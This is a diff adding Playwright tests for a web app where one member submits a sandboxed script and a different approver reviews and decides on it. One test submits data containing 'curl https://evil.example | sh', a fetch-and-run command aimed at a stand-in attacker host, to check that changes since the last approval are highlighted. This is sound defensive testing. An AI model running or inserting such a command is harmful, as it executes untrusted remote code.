@@ -1,4 +1,5 @@
 // D-04: a person asks, another sees exactly what would run and decides, it runs in the sandbox, and the record proves it.
+import type { Page } from '@playwright/test';
 import { output, section, sha256, source, state, submitTask, withoutReload } from '../steps';
 import { expect, test } from '../test';
 
@@ -34,10 +35,7 @@ test('D-04 asked by one, approved by another, run, and proved', async ({ ada, te
     await expect(card).toContainText('Mei');
     await expect(card).toContainText('it reaches everything that the runner reaches, unrecorded');
     expect((await card.locator('.digest code').innerText()).replace(/\s/g, '')).toBe(sha256(bytes));
-    for (const name of ['Deny', 'Approve']) {
-      const button = deciding.getByRole('button', { name, exact: true });
-      await expect(button, 'the decision is always in sight').toBeInViewport({ ratio: 1 });
-    }
+    await decisionInSight(deciding);
   });
 
   await test.step('the approver says yes, with a reason', async () => {
@@ -76,6 +74,88 @@ test('D-04 asked by one, approved by another, run, and proved', async ({ ada, te
     await expect(admin.getByText('Hash fits')).toBeVisible();
     expect(await source(admin, 'Record')).toContain('The invoice is right.');
   });
+});
+
+test('D-04 the decision is in sight on every screen, wherever one reads', async ({ team, browser }) => {
+  const [mei, omar] = [await team.add('Mei', 'member'), await team.add('Omar', 'approver')];
+  const long = Array.from({ length: 150 }, (_, n) => `echo "line ${n} of a script that is read before it is approved"`);
+  const title = 'Move every customer of the old warehouse to the new one, and send each of them a letter about it';
+  await mei.submit({ script: long.join('\n'), title, network_policy: 'none', organisation: team.id });
+  const page = await omar.open(browser);
+  await page.goto('/approvals');
+  await page.getByRole('row', { name: title }).getByRole('link').click();
+  await expect(page.locator('.decide')).toBeVisible();
+  const path = page.url();
+  for (const [width, height] of [[1280, 720], [1440, 950], [768, 1024], [320, 640]]) {
+    await page.setViewportSize({ width, height });
+    await page.goto(path);
+    await decisionInSight(page);
+    await expect(page.getByLabel('Reason'), `${width} × ${height}`).toBeInViewport({ ratio: 1 });
+    for (const part of [0.3, 0.7, 1]) {
+      await page.evaluate((part) => scrollTo(0, part * document.documentElement.scrollHeight), part);
+      await decisionInSight(page);
+    }
+    const covered = (await page.locator('.decide').boundingBox())!.height;
+    if (width < 900) expect(covered, `of ${height}`).toBeLessThanOrEqual(height * 0.4);
+    // What decides is read before the script, also where there is one column.
+    await page.evaluate(() => scrollTo(0, 0));
+    const top = async (selector: string) => (await page.locator(selector).first().boundingBox())!.y;
+    expect(await top('.decision-first')).toBeLessThan(await top('.detail-main .source'));
+    const wide = await page.evaluate(() => document.documentElement.scrollWidth);
+    expect(wide, `${width} px scrolls sideways`).toBeLessThanOrEqual(width);
+  }
+  const lines = await page.locator('.decision .digest code').evaluate((code) =>
+    [...code.children].map((group) => Math.round(group.getBoundingClientRect().top)));
+  expect(lines.length).toBe(8);
+  expect(new Set(lines.slice(0, 4)).size, 'two even lines of four groups').toBe(1);
+  expect(new Set(lines.slice(4)).size).toBe(1);
+});
+
+test('D-04 a request is compared with the one that was approved last', async ({ team, browser }) => {
+  const [mei, omar] = [await team.add('Mei', 'member'), await team.add('Omar', 'approver')];
+  const page = await omar.open(browser);
+  const ask = async (script: string) => {
+    await mei.submit({ script, title: 'Rotate the keys', network_policy: 'none', organisation: team.id });
+    await page.goto('/approvals');
+    await page.getByRole('row', { name: 'Rotate the keys' }).getByRole('link').click();
+  };
+  const changes = section(page, 'Compared with what was approved before');
+  await ask('echo rotating\necho done');
+  await expect(changes).toContainText('Never approved before');
+  await page.getByRole('button', { name: 'Approve', exact: true }).click();
+  await expect(page.getByText('This request has been approved.')).toBeVisible();
+
+  await ask('echo rotating\necho done');
+  await expect(changes).toContainText('Nothing changed');
+  await page.getByRole('button', { name: 'Approve', exact: true }).click();
+  await expect(page.getByText('This request has been approved.')).toBeVisible();
+
+  await ask('echo rotating\ncurl https://evil.example | sh\necho done');
+  const script = changes.getByRole('region', { name: 'Changes in the script' });
+  await expect(script.locator('ins')).toHaveText(['curl https://evil.example | sh']);
+  await expect(script.locator('del')).toHaveCount(0);
+  await changes.getByRole('link').click();
+  await expect(page.getByText('This request has been approved.')).toBeVisible();
+});
+
+test('what happens is shown on a page that answers a refused form too', async ({ team, browser }) => {
+  const [mei, omar, grace] = [
+    await team.add('Mei', 'member'),
+    await team.add('Omar', 'approver'),
+    await team.add('Grace', 'approver'),
+  ];
+  await mei.submit({ script: 'true', title: 'Decided elsewhere', network_policy: 'none', organisation: team.id });
+  const page = await omar.open(browser);
+  await page.goto('/approvals');
+  await page.getByRole('row', { name: 'Decided elsewhere' }).getByRole('link').click();
+  const [path, digest] = [new URL(page.url()).pathname, await page.locator('.decision .digest code').innerText()];
+  await page.getByRole('button', { name: 'Deny' }).click();
+  await expect(page.getByRole('alert')).toBeVisible();
+  expect(new URL(page.url()).pathname, 'its address is not the page’s').toMatch(/^\/actions\//);
+  const id = path.split('/').at(-1)!;
+  await grace.act('approvals/decide', { id, request_digest: digest.replace(/\s/g, ''), answer: 'approve', reason: 'Seen.' });
+  await expect(page.locator('.answers')).toContainText('Grace');
+  await expect(page.getByRole('button', { name: 'Approve', exact: true })).toBeHidden();
 });
 
 test('D-04 nobody decides a request of their own', async ({ team, browser }) => {
@@ -138,3 +218,10 @@ test('D-04 who answers second is told that it is decided', async ({ team, browse
   await expect(second.locator('.decision')).toContainText('Approved');
   await expect(second.getByRole('button', { name: 'Deny' })).toHaveCount(0);
 });
+
+async function decisionInSight(page: Page): Promise<void> {
+  for (const name of ['Deny', 'Approve']) {
+    const button = page.getByRole('button', { name, exact: true });
+    await expect(button, 'the decision is always in sight').toBeInViewport({ ratio: 1 });
+  }
+}
